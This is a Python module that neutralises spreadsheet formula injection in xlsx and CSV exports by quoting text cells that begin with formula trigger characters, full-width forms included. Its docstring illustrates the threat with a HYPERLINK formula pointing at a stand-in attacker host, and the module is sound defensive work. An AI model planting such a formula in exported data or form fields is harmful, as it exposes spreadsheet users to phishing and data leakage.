"""Cells written to a spreadsheet (xlsx or CSV) that cannot run as formulas (CSV/formula injection).

A resident's name ``=HYPERLINK("http://evil.example/?x","点击")`` or an address ``=1+2`` typed into
a form or an imported file would otherwise come out of an export as a live formula: openpyxl
stores a string that starts with ``=`` as a formula, and Excel or WPS evaluates a CSV field that
starts with ``= + - @`` (or a tab or carriage return before one). Every export writes its rows
through ``safe_row``; a text cell that starts with one of those characters is prefixed with an
apostrophe, which spreadsheets read as "this is text" (OWASP's advice). Numbers, dates and
empty cells pass unchanged, so a negative number stays a number.
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The ASCII triggers, and their full-width forms, which a Chinese input method types.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a cell: text that a spreadsheet would evaluate is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
